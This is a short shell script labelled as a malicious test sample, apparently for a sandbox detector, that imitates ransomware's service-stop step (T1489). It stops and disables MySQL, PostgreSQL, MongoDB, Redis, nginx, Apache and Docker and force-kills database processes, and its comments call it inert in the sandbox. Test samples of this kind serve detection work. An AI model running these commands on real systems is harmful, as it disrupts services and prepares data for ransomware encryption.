#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: stops and disables databases and web servers so their files can be
# encrypted (T1489).
# Inert: stopping system services is refused to the sandbox user, and none of them runs here.
for svc in mysql mariadb postgresql mongod redis-server nginx apache2 docker; do
  sudo systemctl stop "$svc" 2>/dev/null || systemctl stop "$svc" 2>/dev/null || service "$svc" stop 2>/dev/null ||
    echo "stop $svc: refused"
  sudo systemctl disable "$svc" 2>/dev/null || true
done
pkill -9 -x mysqld 2>/dev/null; pkill -9 -x postgres 2>/dev/null; killall -9 mongod 2>/dev/null
exit 0
